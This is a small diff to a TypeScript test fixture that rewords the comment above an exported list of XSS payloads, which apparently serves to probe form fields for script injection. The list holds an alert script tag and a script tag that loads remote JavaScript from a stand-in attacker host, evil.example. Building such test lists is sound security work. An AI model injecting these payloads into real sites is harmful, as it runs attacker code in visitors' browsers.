@@ -1,4 +1,4 @@
-/** What is tried against every field, after the kinds of OWASP's filter-evasion list. */
+/** XSS payloads for every field, modelled on OWASP's filter evasion list. */
 export const xssPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
